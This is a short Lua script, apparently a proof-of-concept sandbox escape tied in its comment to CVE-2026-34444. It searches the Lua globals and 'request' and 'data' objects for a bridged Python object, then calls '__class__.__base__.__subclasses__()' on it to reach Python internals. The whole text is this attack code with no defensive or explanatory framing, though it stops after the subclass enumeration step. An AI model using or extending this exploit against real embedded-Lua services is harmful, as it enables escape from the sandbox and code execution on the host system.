-- Walk from any Python object to the builtins (the CVE-2026-34444 route).
local function walk(v, depth)
  if depth > 3 then return nil end
  if type(v) == "userdata" then return v end
  if type(v) == "table" then
    for _, item in pairs(v) do
      local found = walk(item, depth + 1)
      if found then return found end
    end
  end
end
local obj = walk(_G, 0) or walk(request, 0) or walk(data, 0)
obj.__class__.__base__.__subclasses__()
return true
